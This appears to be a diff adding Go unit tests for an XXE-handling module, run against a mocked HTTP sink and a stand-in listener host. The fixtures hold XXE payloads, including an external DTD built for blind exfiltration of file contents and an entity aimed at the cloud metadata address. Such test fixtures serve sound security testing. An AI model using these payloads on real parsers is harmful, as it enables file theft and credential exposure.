@@ -0,0 +1,94 @@
+package modules
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestXXE_OOBResolution_Direct tests that entity URLs on the listener are requested
+func TestXXE_OOBResolution_Direct(t *testing.T) {
+	m := &XXE{}
+	sink := &MockHTTPSink{Pages: map[string]string{"http://oob.flawfactory.local/ping": "ok"}}
+
+	payload := `<?xml version="1.0"?>
+<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://oob.flawfactory.local/ping">]>
+<foo>&xxe;</foo>`
+
+	result, err := m.Handle(&HandlerContext{
+		Input: payload,
+		Config: map[string]interface{}{
+			"oob_resolution": true,
+			"oob_hosts":      []interface{}{"oob.flawfactory.local"},
+		},
+		Sinks: &SinkContext{HTTP: sink},
+	})
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+
+	xxeResult := result.Data.(*XXEResult)
+	if len(xxeResult.OOBInteractions) != 1 || xxeResult.OOBInteractions[0].StatusCode != 200 {
+		t.Errorf("Expected one successful OOB interaction, got %+v", xxeResult.OOBInteractions)
+	}
+}
+
+// TestXXE_OOBResolution_ExternalDTD tests blind exfiltration through an external DTD
+func TestXXE_OOBResolution_ExternalDTD(t *testing.T) {
+	m := &XXE{}
+	sink := &MockHTTPSink{Pages: map[string]string{
+		"http://oob.flawfactory.local/evil.dtd": `<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://oob.flawfactory.local/?d=%file;'>">
+%eval;
+%exfil;`,
+	}}
+
+	payload := `<?xml version="1.0"?>
+<!DOCTYPE foo [
+  <!ENTITY % file SYSTEM "file:///etc/hostname_missing">
+  <!ENTITY % dtd SYSTEM "http://oob.flawfactory.local/evil.dtd">
+  %dtd;
+]>
+<foo>test</foo>`
+
+	result, _ := m.Handle(&HandlerContext{
+		Input: payload,
+		Config: map[string]interface{}{
+			"oob_resolution":  true,
+			"oob_hosts":       []interface{}{"oob.flawfactory.local"},
+			"allow_file_read": false,
+		},
+		Sinks: &SinkContext{HTTP: sink},
+	})
+
+	if len(sink.Fetched) != 2 {
+		t.Fatalf("Expected DTD fetch and exfiltration callback, got %v", sink.Fetched)
+	}
+	if !strings.HasPrefix(sink.Fetched[1], "http://oob.flawfactory.local/?d=") || strings.Contains(sink.Fetched[1], "%file;") {
+		t.Errorf("Expected expanded exfiltration URL, got '%s'", sink.Fetched[1])
+	}
+
+	xxeResult := result.Data.(*XXEResult)
+	if xxeResult.OOBInteractions[1].Source != "dtd:http://oob.flawfactory.local/evil.dtd" {
+		t.Errorf("Expected callback to be attributed to the DTD, got %+v", xxeResult.OOBInteractions[1])
+	}
+}
+
+// TestXXE_OOBResolution_OnlyListenerHosts tests that other hosts are never requested
+func TestXXE_OOBResolution_OnlyListenerHosts(t *testing.T) {
+	m := &XXE{}
+	sink := &MockHTTPSink{Pages: map[string]string{}}
+
+	payload := `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>`
+
+	m.Handle(&HandlerContext{
+		Input: payload,
+		Config: map[string]interface{}{
+			"oob_resolution": true,
+			"oob_hosts":      []interface{}{"oob.flawfactory.local"},
+		},
+		Sinks: &SinkContext{HTTP: sink},
+	})
+
+	if len(sink.Fetched) != 0 {
+		t.Errorf("Expected no requests outside the listener hosts, got %v", sink.Fetched)
+	}
+}